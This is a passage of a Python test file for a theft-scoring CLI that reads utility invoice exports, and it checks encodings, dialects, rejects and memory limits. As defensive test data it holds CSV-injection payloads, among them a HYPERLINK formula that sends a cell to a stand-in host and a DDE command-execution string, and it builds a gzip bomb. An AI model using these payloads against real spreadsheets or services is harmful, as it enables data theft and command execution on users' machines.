"""Real utility exports and hostile files through `ptd score` and `batch.score_file`: every
dialect scores like the clean CSV, every client is accounted for, one client's history is
capped, every CSV cell is safe to open in a spreadsheet, unusable files fail in one line."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from detector.batch import score_file
from detector.model import ArtifactSet
from detector.schema import UNDECODABLE_ID, InputError
from detector.tables import FORMULA_START, spreadsheet_safe
from tests.synthetic import make_steg

REPO = Path(__file__).resolve().parent.parent
CASES = REPO.parent / "shared" / "cases" / "2026-11-30"


@pytest.fixture(scope="module")
def export() -> tuple[pd.DataFrame, pd.DataFrame]:
    clients, invoices = make_steg(80, seed=21)
    invoices = invoices.copy()
    # Decimal values, so that a decimal comma has something to mean.
    invoices["consommation_level_1"] = invoices["consommation_level_1"] + 0.25
    return clients.drop(columns="target"), invoices


# This process's own peak RSS in KiB (VmHWM, proc(5)). Not getrusage's ru_maxrss: Linux folds
# the high-water mark of the mm replaced at exec into it, so a child of a 1.2 GB test worker
# reported 1.2 GB however little it used.
PEAK_RSS_KIB = "int(open('/proc/self/status').read().split('VmHWM:')[1].split()[0])"


def _clean_env() -> dict[str, str]:
    """The environment without the app's settings: other tests' fixtures set PTD_* and storage
    variables in this worker's environment, and a measured child must not inherit them."""
    prefixes = ("PTD_", "AzureWebJobs", "AZURE_", "FUNCTIONS_", "APPLICATIONINSIGHTS_")
    return {k: v for k, v in os.environ.items() if not k.startswith(prefixes)}


def ptd_score(
    *args: str, timeout: float = 120, env: dict[str, str] | None = None
) -> subprocess.CompletedProcess[str]:
    """`ptd score ARGS` in a fresh process, as a user runs it (stdout and stderr as text)."""
    return subprocess.run(
        [sys.executable, "-m", "detector", "score", *args],
        capture_output=True,
        text=True,
        cwd=REPO,
        timeout=timeout,
        env=env,
    )


def ptd_score_peak(
    path: Path, out: Path, timeout: float
) -> tuple[subprocess.CompletedProcess[str], float]:
    """`ptd score PATH --out OUT` in a fresh process without the app's settings, and that
    process's peak RSS in MB (VmHWM, printed by the child itself)."""
    script = (
        "import sys; from detector.cli import main; "
        f"rc = main(['score', {str(path)!r}, '--out', {str(out)!r}]); "
        f"print({PEAK_RSS_KIB}); sys.exit(rc)"
    )
    done = subprocess.run(
        [sys.executable, "-c", script],
        capture_output=True,
        text=True,
        timeout=timeout,
        cwd=REPO,
        env=_clean_env(),
    )
    printed = done.stdout.strip().splitlines()
    # NaN when the child died before printing: the caller's returncode check says why first.
    return done, int(printed[-1]) / 1024 if printed else float("nan")


def scored(
    path: Path, artifacts: ArtifactSet, tmp: Path, clients: Path | None = None, **kwargs: object
) -> tuple[pd.DataFrame, pd.DataFrame | None, dict[str, object]]:
    out = tmp / f"{path.stem}.results.csv"
    result = score_file(path, artifacts, out, clients_path=clients, **kwargs)  # type: ignore[arg-type]
    results = pd.read_csv(out, dtype={"client_id": "string"}, keep_default_na=False)
    rejects = (
        pd.read_csv(result.rejects_path, dtype={"client_id": "string"}, keep_default_na=False)
        if result.rejects_path
        else None
    )
    return results, rejects, result.summary


# --- class 2: dialects and headers --------------------------------------------------------------


def _write(frame: pd.DataFrame, path: Path, sep: str = ",", **options: object) -> Path:
    frame.to_csv(path, sep=sep, index=False, **options)  # type: ignore[arg-type]
    return path


STEG_DICTIONARY = {  # the capitalisation of the STEG data dictionary, and spaces
    "client_id": "Client_id",
    "invoice_date": "Invoice Date",
    "counter_statue": " Counter_statue",
    "consommation_level_1": "CONSOMMATION_LEVEL_1 ",
    "counter_type": "counter type",
}


@pytest.mark.parametrize(
    "dialect",
    ["semicolon", "tab", "pipe", "bom", "crlf", "headers", "cp1252", "utf16", "quoted"],
)
def test_every_dialect_scores_like_the_clean_csv(
    export: tuple[pd.DataFrame, pd.DataFrame],
    tiny_artifacts: ArtifactSet,
    tmp_path: Path,
    dialect: str,
) -> None:
    _, invoices = export
    invoices = invoices.copy()
    if dialect in ("cp1252", "utf16"):  # what Excel writes on a Western-European Windows
        invoices["client_id"] = invoices["client_id"].str.replace("c0", "cé", regex=False)
    clean = _write(invoices, tmp_path / "clean.csv")
    variant = tmp_path / f"{dialect}.csv"
    if dialect == "semicolon":  # Excel where the comma is the decimal separator
        _write(invoices, variant, sep=";", decimal=",")
    elif dialect == "tab":
        _write(invoices, variant, sep="\t")
    elif dialect == "pipe":
        _write(invoices, variant, sep="|")
    elif dialect == "bom":
        _write(invoices, variant, encoding="utf-8-sig")
    elif dialect == "crlf":
        _write(invoices, variant, lineterminator="\r\n")
    elif dialect == "headers":
        _write(invoices.rename(columns=STEG_DICTIONARY), variant)
    elif dialect == "cp1252":
        _write(invoices, variant, sep=";", encoding="cp1252", decimal=",")
    elif dialect == "utf16":  # Excel's "Unicode Text": UTF-16 with a byte-order mark, tabs
        _write(invoices, variant, sep="\t", encoding="utf-16")
    else:
        _write(invoices, variant, quoting=csv.QUOTE_ALL)
    expected, _, _ = scored(clean, tiny_artifacts, tmp_path)
    got, rejects, summary = scored(variant, tiny_artifacts, tmp_path)
    assert rejects is None, rejects
    pd.testing.assert_frame_equal(got, expected)
    assert summary["input_rows"] == len(invoices)


def test_windows_1252_is_found_anywhere_in_the_file(
    export: tuple[pd.DataFrame, pd.DataFrame], tiny_artifacts: ArtifactSet, tmp_path: Path
) -> None:
    """The first accented character of a real export may come after a million ASCII rows: the
    encoding is decided by the whole file (once decided by its first MiB, such a file was
    refused whole with a UnicodeDecodeError)."""
    _, invoices = export
    repeats = -(-(2 << 20) // len(invoices.to_csv(index=False)))  # past 2 MiB of ASCII rows
    many = pd.concat(
        [invoices.assign(client_id=invoices["client_id"] + f"-{k}") for k in range(repeats)],
        ignore_index=True,
    )
    accented = many.copy()
    last = accented["client_id"].iloc[-1]
    accented.loc[accented["client_id"] == last, "client_id"] = "c-Société"
    plain = _write(accented, tmp_path / "utf8.csv")  # UTF-8: the reference
    western = _write(accented, tmp_path / "cp1252.csv", encoding="cp1252")
    assert western.read_bytes().index("é".encode("cp1252")) > 2 << 20
    expected, _, _ = scored(plain, tiny_artifacts, tmp_path)
    got, rejects, summary = scored(western, tiny_artifacts, tmp_path)
    assert rejects is None, rejects
    assert summary["csv_dialect"]["encoding"] == "cp1252"
    assert "c-Société" in set(got["client_id"])
    key = ["client_id"]
    pd.testing.assert_frame_equal(
        got.sort_values(key).reset_index(drop=True),
        expected.sort_values(key).reset_index(drop=True),
    )


def test_utf8_split_between_read_blocks_is_still_utf8(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from detector import tables

    monkeypatch.setattr(tables, "ENCODING_BLOCK", 7)
    text = "client_id\n" + "a" * 3 + "é" + "\n"  # é: bytes 13 and 14, blocks 7..13 and 14..20
    path = tmp_path / "split.csv"
    path.write_bytes(text.encode("utf-8"))
    assert tables._encoding(path) == "utf-8-sig"
    path.write_bytes(text.encode("utf-8")[:-2])  # ends inside the character: not UTF-8
    assert tables._encoding(path) == "cp1252"
    path.write_bytes(("a" * 40 + "é").encode("cp1252"))
    assert tables._encoding(path) == "cp1252"
    # A U+FFFD written in the file, split between blocks, is still a character.
    path.write_bytes(("client_id\n" + "a" * 2 + "\ufffd" + "\n").encode())
    assert tables._encoding(path) == "utf-8-sig"
    path.write_bytes(("client_id\n" + "a" * 2 + "\ufffd" + "\n").encode() + b"\xe9\n")
    assert tables._encoding(path) == tables.MIXED


def test_how_each_mix_of_bytes_is_decoded(tmp_path: Path) -> None:
    from detector import tables

    path = tmp_path / "x.csv"
    bom = "\ufeff".encode()
    cases = [
        ("client_id\nc-é\n".encode(), "utf-8-sig"),
        (bom + "client_id\nc-é\n".encode(), "utf-8-sig"),
        ("client_id\nc-é\n".encode("cp1252"), "cp1252"),
        ("client_id\nc-é\n".encode("utf-16"), "utf-16"),
        # A U+FFFD written in the file is text, not a sign of bytes gone wrong.
        ("client_id\nc-\ufffd\n".encode(), "utf-8-sig"),
        # UTF-8 rows, then one row from a Windows-1252 system, or the other way round.
        ("client_id\nc-é\n".encode() + "d-é\n".encode("cp1252"), tables.MIXED),
        ("client_id\nd-é\n".encode("cp1252") + "c-é\n".encode(), tables.MIXED),
        # Windows-1252 behind a UTF-8 byte-order mark.
        (bom + "client_id\nd-é\n".encode("cp1252"), tables.MIXED),
        # Windows-1252 in which "Ã©" happens to be valid UTF-8.
        ("client_id,note\nd-é,x\ne,Ã©\n".encode("cp1252"), tables.MIXED),
    ]
    for data, expected in cases:
        path.write_bytes(data)
        assert tables._encoding(path) == expected, data


def test_utf16_without_its_byte_order_mark_is_named(
    export: tuple[pd.DataFrame, pd.DataFrame], tiny_artifacts: ArtifactSet, tmp_path: Path
) -> None:
    """It was "missing column(s)" with a header of NULs."""
    _, invoices = export
    path = tmp_path / "u16.csv"
    path.write_bytes(invoices.to_csv(index=False).encode("utf-16-le"))
    with pytest.raises(InputError, match="UTF-16 without a byte-order mark"):
        score_file(path, tiny_artifacts, tmp_path / "r.csv")


@pytest.mark.parametrize("block", [1 << 18, 7])
def test_a_file_mixing_utf8_and_windows_1252_reads_each_line_in_its_own(
    export: tuple[pd.DataFrame, pd.DataFrame],
    tiny_artifacts: ArtifactSet,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    block: int,
) -> None:
    """A UTF-8 export with rows appended by a Windows-1252 system was decoded whole as
    Windows-1252: every `é` became `Ã©`, no id joined the (UTF-8) clients file, and exit 0.
    Now every line is read in the encoding it is valid in: the file scores as its UTF-8 form.
    (`block` 7 splits lines and characters between the transcoder's reads.)"""
    from detector import tables

    init = tables.Utf8Lines.__init__
    monkeypatch.setattr(
        tables.Utf8Lines, "__init__", lambda self, source: init(self, source, block)
    )
    clients, invoices = export
    accented = {c: f"cé-{c}" for c in invoices["client_id"].unique()}
    invoices = invoices.assign(client_id=invoices["client_id"].map(accented))
    clients = clients.assign(client_id=clients["client_id"].map(accented))
    clients_path = _write(clients, tmp_path / "clients.csv")
    clean = _write(invoices, tmp_path / "clean.csv")
    expected, _, clean_summary = scored(clean, tiny_artifacts, tmp_path, clients_path)
    assert clean_summary["csv_dialect"]["mixed_encoding"] is False
    half = len(invoices) // 2
    mixed = tmp_path / "mixed.csv"
    mixed.write_bytes(
        invoices.head(half).to_csv(index=False).encode()
        + invoices.iloc[half:].to_csv(index=False, header=False).encode("cp1252")
    )
    # The same rows with the halves swapped, behind a UTF-8 byte-order mark.
    swapped = tmp_path / "swapped.csv"
    swapped.write_bytes(
        "\ufeff".encode()
        + invoices.head(half).to_csv(index=False).encode("cp1252")
        + invoices.iloc[half:].to_csv(index=False, header=False).encode()
    )
    for path in (mixed, swapped):
        got, rejects, summary = scored(path, tiny_artifacts, tmp_path, clients_path)
        assert rejects is None, rejects
        pd.testing.assert_frame_equal(got, expected)
        assert summary["csv_dialect"]["mixed_encoding"] is True
    # A Windows-1252 clients file in which one note happens to be valid UTF-8 still joins.
    noted = clients.assign(note=["Ã©"] + [""] * (len(clients) - 1))
    western = _write(noted, tmp_path / "clients-1252.csv", encoding="cp1252")
    got, rejects, _ = scored(clean, tiny_artifacts, tmp_path, western)
    assert rejects is None, rejects
    pd.testing.assert_frame_equal(got, expected)


def test_an_id_holding_the_replacement_character_is_rejected(
    export: tuple[pd.DataFrame, pd.DataFrame], tiny_artifacts: ArtifactSet, tmp_path: Path
) -> None:
    """U+FFFD marks bytes lost upstream: two ids may have become one, so it is no key."""
    _, invoices = export
    first = invoices["client_id"].iloc[0]
    rows = invoices.assign(
        client_id=invoices["client_id"].where(invoices["client_id"] != first, "c\ufffd")
    )
    _, rejects, _ = scored(_write(rows, tmp_path / "x.csv"), tiny_artifacts, tmp_path)
    assert rejects is not None
    assert set(rejects["client_id"]) == {"c\ufffd"}
    assert set(rejects["reason"]) == {UNDECODABLE_ID}


def test_the_handed_dialect_cases_score_like_their_clean_form(
    tiny_artifacts: ArtifactSet, tmp_path: Path
) -> None:
    if not CASES.is_dir():
        pytest.skip("../shared/cases is not present")
    clean = pd.read_csv(CASES / "semicolon.csv", sep=";", dtype={"counter_statue": str})
    expected, _, _ = scored(_write(clean, tmp_path / "clean.csv"), tiny_artifacts, tmp_path)
    for name in ("semicolon.csv", "header-spaces.csv"):
        got, rejects, _ = scored(CASES / name, tiny_artifacts, tmp_path)
        assert rejects is None
        pd.testing.assert_frame_equal(got, expected)


def test_a_missing_column_shows_the_header_as_read(
    export: tuple[pd.DataFrame, pd.DataFrame], tiny_artifacts: ArtifactSet, tmp_path: Path
) -> None:
    _, invoices = export
    path = _write(invoices.drop(columns="months_number"), tmp_path / "x.csv", sep=";")
    with pytest.raises(InputError) as caught:
        score_file(path, tiny_artifacts, tmp_path / "r.csv")
    message = str(caught.value)
    assert "missing required column(s): months_number" in message
    assert "with separator ';'" in message and "client_id;invoice_date;" in message


def test_two_columns_meaning_one_name_are_refused(
    tiny_artifacts: ArtifactSet, tmp_path: Path
) -> None:
    path = tmp_path / "twice.csv"
    path.write_text("client_id,Client ID,invoice_date\na,b,2015-01-01\n")
    with pytest.raises(InputError, match="'client_id' and 'Client ID' are both 'client_id'"):
        score_file(path, tiny_artifacts, tmp_path / "r.csv")


# --- class 3: every client accounted for ----------------------------------------------------------


def test_every_client_ends_in_results_or_rejects(
    export: tuple[pd.DataFrame, pd.DataFrame], tiny_artifacts: ArtifactSet, tmp_path: Path
) -> None:
    clients, invoices = export
    ids = list(clients["client_id"])
    no_rows, all_bad = ids[:3], ids[3:6]
    rows = invoices[~invoices["client_id"].isin(no_rows)].copy()
    rows.loc[rows["client_id"].isin(all_bad), "invoice_date"] = "9999-12-31"
    extra = pd.DataFrame({"client_id": ["stray-1"], "disrict": [60], "region": [101]})
    rows = pd.concat([rows, rows.head(2).assign(client_id="")], ignore_index=True)
    invoices_path = _write(rows, tmp_path / "invoices.csv")
    clients_path = _write(pd.concat([clients, extra]), tmp_path / "clients.csv")
    results, rejects, summary = scored(invoices_path, tiny_artifacts, tmp_path, clients_path)
    assert rejects is not None
    everyone = set(ids) | {"stray-1"}
    in_results = set(results["client_id"])
    in_rejects = set(rejects["client_id"]) - {""}
    assert in_results | in_rejects == everyone
    assert not in_results & set(no_rows + all_bad + ["stray-1"])
    absent = rejects[rejects["reason"].str.startswith("no invoice rows")]
    assert set(absent["client_id"]) == set(no_rows) | {"stray-1"}
    assert set(rejects.loc[rejects["reason"].str.contains("outside"), "client_id"]) == set(all_bad)
    assert summary["clients_in"] == len(everyone)
    assert summary["clients_in"] == summary["clients_scored"] + summary["clients_rejected"]
    assert summary["clients_rejected"] == len(no_rows) + len(all_bad) + 1
    assert summary["rows_rejected"] == len(rejects)


def test_the_handed_accounting_case(tiny_artifacts: ArtifactSet, tmp_path: Path) -> None:
    if not CASES.is_dir():
        pytest.skip("../shared/cases is not present")
    results, rejects, summary = scored(
        CASES / "no-invoices-invoices.csv",
        tiny_artifacts,
        tmp_path,
        CASES / "no-invoices-clients.csv",
    )
    assert list(results["client_id"]) == ["c-001"]
    assert rejects is not None and list(rejects["client_id"]) == ["c-003"]
    assert (summary["clients_in"], summary["clients_scored"], summary["clients_rejected"]) == (
        2,
        1,
        1,
    )


# --- class 4: implausible dates, in files ---------------------------------------------------------


@pytest.mark.parametrize(
    "placeholder", ["9999-12-31", "0001-01-01", "1000-01-01", "3016-01-01", "today"]
)
def test_placeholder_dates_are_rejected_and_the_client_scored_on_the_rest(
    export: tuple[pd.DataFrame, pd.DataFrame],
    tiny_artifacts: ArtifactSet,
    tmp_path: Path,
    placeholder: str,
) -> None:
    _, invoices = export
    client = invoices["client_id"].iloc[0]
    rows = invoices[invoices["client_id"] == client]
    clean, _, _ = scored(_write(rows, tmp_path / "clean.csv"), tiny_artifacts, tmp_path)
    bad = pd.concat([rows.head(1).assign(invoice_date=placeholder), rows], ignore_index=True)
    got, rejects, _ = scored(_write(bad, tmp_path / "bad.csv"), tiny_artifacts, tmp_path)
    assert rejects is not None and list(rejects["row"]) == [0]
    assert rejects["reason"].iloc[0].startswith("invalid invoice_date")
    pd.testing.assert_frame_equal(got, clean)


def test_a_features_table_with_a_fractional_count_rejects_that_row(
    tiny_artifacts: ArtifactSet, tmp_path: Path
) -> None:
    from tests.test_api import FEATURES_BODY

    rows = pd.DataFrame(
        [
            {"client_id": "whole", **FEATURES_BODY},
            {"client_id": "half", **FEATURES_BODY, "n_invoices": 1.5},
        ]
    )
    got, rejects, _ = scored(_write(rows, tmp_path / "features.csv"), tiny_artifacts, tmp_path)
    assert list(got["client_id"]) == ["whole"]
    assert rejects is not None and list(rejects["client_id"]) == ["half"]
    assert rejects["reason"].iloc[0].startswith("invalid n_invoices: missing or not a whole number")


def test_the_handed_sentinel_date_case(tiny_artifacts: ArtifactSet, tmp_path: Path) -> None:
    """`9999-12-31` (a "no end date" sentinel) was wrapped into 1816; it is a reject, and the
    client is scored exactly as on its two real invoices."""
    if not CASES.is_dir():
        pytest.skip("../shared/cases is not present")
    case = CASES / "sentinel-date.csv"
    got, rejects, summary = scored(case, tiny_artifacts, tmp_path)
    assert rejects is not None and list(rejects["row"]) == [0]
    assert rejects["reason"].iloc[0].startswith("invalid invoice_date")
    real = pd.read_csv(case, dtype=str).iloc[1:]
    clean, _, _ = scored(_write(real, tmp_path / "clean.csv"), tiny_artifacts, tmp_path)
    pd.testing.assert_frame_equal(got, clean)
    assert (summary["input_rows"], summary["rows_rejected"], summary["clients_scored"]) == (3, 1, 1)


# --- class 5: one client's history is capped in files, streaming stays streaming ---------------


def test_rows_past_the_per_client_cap_are_rejected_with_a_reason(
    export: tuple[pd.DataFrame, pd.DataFrame], tiny_artifacts: ArtifactSet, tmp_path: Path
) -> None:
    _, invoices = export
    heavy = invoices["client_id"].iloc[0]
    rows = invoices[invoices["client_id"] == heavy]
    many = pd.concat([rows] * (70 // len(rows) + 1), ignore_index=True).head(70)
    table = pd.concat([many, invoices[invoices["client_id"] != heavy]], ignore_index=True)
    path = tmp_path / "many.parquet"
    table.to_parquet(path, index=False)
    # Every other client has fewer than 30 invoices (tests/synthetic.py).
    results, rejects, summary = scored(path, tiny_artifacts, tmp_path, max_invoices_per_client=30)
    assert rejects is not None
    over = rejects[rejects["reason"].str.startswith("too many invoices for one client")]
    assert list(over["row"]) == list(range(30, 70)) and set(over["client_id"]) == {heavy}
    assert heavy in set(results["client_id"])  # scored on its first 30 rows
    capped, _, _ = scored(_write(many.head(30), tmp_path / "first.csv"), tiny_artifacts, tmp_path)
    assert (
        results.set_index("client_id").loc[heavy, "theft_probability"]
        == capped.set_index("client_id").loc[heavy, "theft_probability"]
    )
    assert summary["rows_rejected_by_reason"]["too many invoices for one client"] == 40


@pytest.mark.slow
def test_one_client_with_millions_of_rows_scores_in_bounded_memory(tmp_path: Path) -> None:
    """The handed case: 6,000,000 identical rows of one client in a 0.3 MB Parquet (zstd)
    peaked at 2.5 GB. Measured in a fresh process (VmHWM): 0.61-0.65 GB."""
    _, invoices = make_steg(1, seed=3)
    row = invoices.head(1)
    table = pa.Table.from_pandas(row, preserve_index=False)
    table = pa.concat_tables([table] * 1000).combine_chunks()
    path = tmp_path / "one-client.parquet"
    with pq.ParquetWriter(path, table.schema, compression="zstd") as writer:
        for _ in range(6000):
            writer.write_table(table)
    done, peak_mb = ptd_score_peak(path, tmp_path / "r.csv", timeout=600)
    assert done.returncode == 0, done.stderr
    assert peak_mb < 1024, f"peak RSS {peak_mb:.0f} MB"
    # The rows are identical: past the cap they are over it, under it all but one are duplicates.
    assert (
        "rejected 5999999 rows (duplicate invoice: 1999, too many invoices for one client: "
        "5998000)" in done.stderr
    ), done.stderr


# --- class 6: outputs safe to open in a spreadsheet ---------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://x.example/?a="&A3,"d")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "'quoted",
]


def test_formula_like_ids_are_neutralised_in_every_csv_and_recoverable(
    export: tuple[pd.DataFrame, pd.DataFrame], tiny_artifacts: ArtifactSet, tmp_path: Path
) -> None:
    _, invoices = export
    first = invoices["client_id"].unique()[: len(FORMULAS)]
    mapping = dict(zip(first, FORMULAS, strict=True))
    rows = invoices[invoices["client_id"].isin(first)].copy()
    rows["client_id"] = rows["client_id"].map(mapping)
    # One bad row per client, so that every id is in rejects.csv too.
    bad = rows.groupby("client_id").head(1).assign(consommation_level_2=-1)
    table = pd.concat([rows, bad], ignore_index=True)
    path = tmp_path / "formulas.parquet"
    table.to_parquet(path, index=False)
    out = tmp_path / "results.csv"
    result = score_file(path, tiny_artifacts, out)
    assert result.rejects_path is not None
    for written in (out, result.rejects_path):
        cells = list(csv.reader(io.StringIO(written.read_text(encoding="utf-8"))))[1:]
        for row in cells:
            for cell in row:
                assert not cell.startswith(FORMULA_START), (written.name, cell)
        ids = {row[0] if written == out else row[2] for row in cells}
        # The original is the cell without the apostrophe added in front.
        assert {i[1:] for i in ids} == set(FORMULAS)


def test_spreadsheet_safe_leaves_ordinary_text_alone() -> None:
    values = pd.Series(["c-001", "2-3", "abc=1", None, "-5", "'x"], dtype=object)
    safe = spreadsheet_safe(values)
    assert list(safe[:3]) == ["c-001", "2-3", "abc=1"] and pd.isna(safe[3])
    assert list(safe[4:]) == ["'-5", "''x"]


# --- class 8: unusable files fail in one line ---------------------------------------------------


def _parquet(path: Path, client_ids: pa.Array, duplicate: bool = False) -> Path:
    _, invoices = make_steg(2, seed=1)
    rows = invoices.head(len(client_ids)).drop(columns="client_id")
    table = pa.Table.from_pandas(rows, preserve_index=False)
    table = table.add_column(0, "client_id", client_ids)
    if duplicate:
        table = table.append_column("months_number", table.column("months_number"))
    pq.write_table(table, path)
    return path


@pytest.mark.parametrize(
    ("ids", "duplicate", "message"),
    [
        (pa.array([[1], [2]]), False, "holds list<"),
        (pa.array([{"a": 1}, {"a": 2}]), False, "holds struct<a: int64> values"),
        (pa.array([b"\x00\x01", b"\x02"]), False, "holds binary values"),
        (pa.array(["a", "b"]), True, "column name(s) used twice: months_number"),
    ],
)
def test_unusable_parquet_is_one_line_and_exit_2(
    tmp_path: Path, ids: pa.Array, duplicate: bool, message: str
) -> None:
    path = _parquet(tmp_path / "bad.parquet", ids, duplicate)
    done = ptd_score(str(path), "--out", str(tmp_path / "r.csv"))
    assert done.returncode == 2
    assert done.stderr.count("\n") == 1 and "Traceback" not in done.stderr
    assert message in done.stderr


def test_summary_says_how_a_csv_was_read(
    export: tuple[pd.DataFrame, pd.DataFrame], tiny_artifacts: ArtifactSet, tmp_path: Path
) -> None:
    _, invoices = export
    path = _write(invoices, tmp_path / "x.csv", sep="|")
    _, _, summary = scored(path, tiny_artifacts, tmp_path)
    assert summary["csv_dialect"] == {
        "separator": "|",
        "encoding": "utf-8",
        "mixed_encoding": False,
    }
    assert json.dumps(summary)  # JSON-ready, as summary.json
    assert np.isfinite(summary["flagged_rate"])


# --- class 1 (ptd score): gzip files ----------------------------------------------------------


@pytest.mark.parametrize("kind", ["csv.gz", "parquet.gz", "gzip named .csv"])
def test_a_gzip_file_scores_like_the_plain_file(
    export: tuple[pd.DataFrame, pd.DataFrame],
    tiny_artifacts: ArtifactSet,
    tmp_path: Path,
    kind: str,
) -> None:
    import gzip

    clients, invoices = export
    plain = tmp_path / ("x.parquet" if kind == "parquet.gz" else "x.csv")
    if kind == "parquet.gz":
        invoices.to_parquet(plain, index=False)
    else:
        _write(invoices, plain)
    clients_plain = _write(clients, tmp_path / "x.clients.csv")
    packed = tmp_path / "packed" / (plain.name + ".gz" if kind != "gzip named .csv" else plain.name)
    packed.parent.mkdir()
    packed.write_bytes(gzip.compress(plain.read_bytes()))
    clients_packed = packed.parent / "x.clients.csv.gz"
    clients_packed.write_bytes(gzip.compress(clients_plain.read_bytes()))

    want, _, want_summary = scored(plain, tiny_artifacts, tmp_path, clients=clients_plain)
    work = tmp_path / "work"
    work.mkdir()
    got, _, got_summary = scored(
        packed, tiny_artifacts, packed.parent, clients=clients_packed, workdir=work
    )
    pd.testing.assert_frame_equal(got, want)
    assert got_summary["input_rows"] == want_summary["input_rows"] == len(invoices)
    assert got_summary["input_format"] == want_summary["input_format"]
    assert not list(work.iterdir()), "the decompressed copies go with the working folder"


def test_a_gzip_bomb_is_refused_in_one_line(tmp_path: Path) -> None:
    import zlib

    bomb = tmp_path / "bomb.csv.gz"
    compressor = zlib.compressobj(9, zlib.DEFLATED, 31)  # wbits 31: a gzip member
    header = b"client_id,invoice_date,consommation_level_1\n"
    with bomb.open("wb") as handle:
        handle.write(compressor.compress(header))
        block = b"0" * (1 << 20)
        for _ in range(64):  # 64 MiB of zeros, under 100 KB packed
            handle.write(compressor.compress(block))
        handle.write(compressor.flush())
    done = ptd_score(
        str(bomb),
        "--out",
        str(tmp_path / "r.csv"),
        env={**os.environ, "PTD_MAX_DECOMPRESSED_BYTES": str(8 << 20)},
    )
    assert done.returncode == 2, done.stderr
    assert done.stderr.count("\n") == 1 and "Traceback" not in done.stderr
    assert "bomb.csv.gz: decompresses to more than 8388608 bytes" in done.stderr
    assert not (tmp_path / "r.csv").exists()


# --- after the outside review: ids, line lengths, outputs, dates, duplicates, many clients ------


def _one_history(export: tuple[pd.DataFrame, pd.DataFrame], client_id: str) -> pd.DataFrame:
    _, invoices = export
    first = invoices["client_id"].iloc[0]
    rows = invoices[invoices["client_id"] == first].copy()
    rows["client_id"] = client_id
    return rows


NA_LIKE_IDS = ["NA", "N/A", "#N/A", "null", "NULL", "None", "NaN", "nan", "-NaN", "<NA>", "n/a"]


def test_ids_that_look_like_missing_values_are_ids(
    export: tuple[pd.DataFrame, pd.DataFrame], tiny_artifacts: ArtifactSet, tmp_path: Path
) -> None:
    """pandas reads `NA`, `null`, `N/A`... as missing: 18 rows of 9 clients became "missing
    client_id" and the clients were counted nowhere. In CSV, only an empty cell is missing."""
    frames = [_one_history(export, client) for client in NA_LIKE_IDS]
    path = _write(pd.concat(frames, ignore_index=True), tmp_path / "na.csv")
    results, rejects, summary = scored(path, tiny_artifacts, tmp_path)
    ids = results["client_id"].str.removeprefix("'")  # '-NaN: written spreadsheet-safe
    assert sorted(ids) == sorted(NA_LIKE_IDS)
    assert rejects is None and summary["clients_in"] == len(NA_LIKE_IDS)
    parquet = tmp_path / "na.parquet"
    pd.concat(frames, ignore_index=True).to_parquet(parquet, index=False)
    from_parquet, _, _ = scored(parquet, tiny_artifacts, tmp_path)
    pd.testing.assert_frame_equal(from_parquet, results)


def test_a_line_past_the_limit_stops_the_read_in_bounded_memory(tmp_path: Path) -> None:
    """A 64 MiB client id in one line cost ~1 GB to parse (12.8 GB for 1 GiB): now the read
    stops at the line, with its number, before the parser holds it."""
    _, invoices = make_steg(2, seed=5)
    path = _write(invoices.head(1), tmp_path / "long.csv")
    line = path.read_text().splitlines()[1]
    with path.open("a") as handle:
        handle.write("x" * (64 << 20) + line[line.index(",") :] + "\n")
    done, peak_mb = ptd_score_peak(path, tmp_path / "r.csv", timeout=300)
    assert done.returncode == 2
    assert "long.csv: line 3 is longer than 64 KiB" in done.stderr
    assert done.stderr.count("\n") == 1 and "Traceback" not in done.stderr
    assert peak_mb < 500, f"peak RSS {peak_mb:.0f} MB"


def test_lines_up_to_the_limit_are_read(
    export: tuple[pd.DataFrame, pd.DataFrame], tiny_artifacts: ArtifactSet, tmp_path: Path
) -> None:
    from detector.tables import MAX_LINE_BYTES

    _, invoices = export
    wide = invoices.copy()
    wide["notes"] = "n" * (MAX_LINE_BYTES - 400)  # an export's free-text column, ignored
    results, _, _ = scored(_write(wide, tmp_path / "wide.csv"), tiny_artifacts, tmp_path)
    clean, _, _ = scored(_write(invoices, tmp_path / "clean.csv"), tiny_artifacts, tmp_path)
    pd.testing.assert_frame_equal(  # a larger file has more partitions: another order
        results.sort_values("client_id").reset_index(drop=True),
        clean.sort_values("client_id").reset_index(drop=True),
    )


def test_a_client_id_longer_than_the_api_allows_is_rejected(
    export: tuple[pd.DataFrame, pd.DataFrame], tiny_artifacts: ArtifactSet, tmp_path: Path
) -> None:
    from detector.schema import LONG_ID, MAX_ID_CHARS

    fits, too_long = "k" * MAX_ID_CHARS, "k" * (MAX_ID_CHARS + 1)
    frame = pd.concat([_one_history(export, fits), _one_history(export, too_long)])
    results, rejects, summary = scored(
        _write(frame, tmp_path / "ids.csv"), tiny_artifacts, tmp_path
    )
    assert list(results["client_id"]) == [fits]
    assert rejects is not None and set(rejects["reason"]) == {LONG_ID}
    assert summary["clients_in"] == 2 and summary["clients_rejected"] == 1


def test_out_never_overwrites_an_input(
    export: tuple[pd.DataFrame, pd.DataFrame], tmp_path: Path
) -> None:
    clients, invoices = export
    path = _write(invoices, tmp_path / "c.csv")
    clients_path = _write(clients, tmp_path / "cl.csv")
    before = path.read_bytes(), clients_path.read_bytes()
    for out, extra in (
        (path, []),
        (clients_path, ["--clients", str(clients_path)]),
        (tmp_path / "cl.rejects.csv", []),  # not an input: fine (checked below)
    ):
        done = ptd_score(str(path), "--out", str(out), *extra)
        if out.name == "cl.rejects.csv":
            assert done.returncode == 0, done.stderr
            continue
        assert done.returncode == 2
        assert "an output of this run would overwrite its input" in done.stderr
    assert (path.read_bytes(), clients_path.read_bytes()) == before
    # --out c.summary.csv would write its summary over an input named c.summary.json
    summary_input = _write(invoices, tmp_path / "s.summary.json")
    done = ptd_score(str(summary_input), "--out", str(tmp_path / "s.csv"))
    assert done.returncode == 2 and "s.summary.json: an output" in done.stderr


def test_a_failed_run_leaves_the_previous_results_as_they_were(
    export: tuple[pd.DataFrame, pd.DataFrame], tiny_artifacts: ArtifactSet, tmp_path: Path
) -> None:
    _, invoices = export
    good = _write(invoices, tmp_path / "good.csv")
    out = tmp_path / "keep.csv"
    score_file(good, tiny_artifacts, out)
    kept = out.read_bytes()
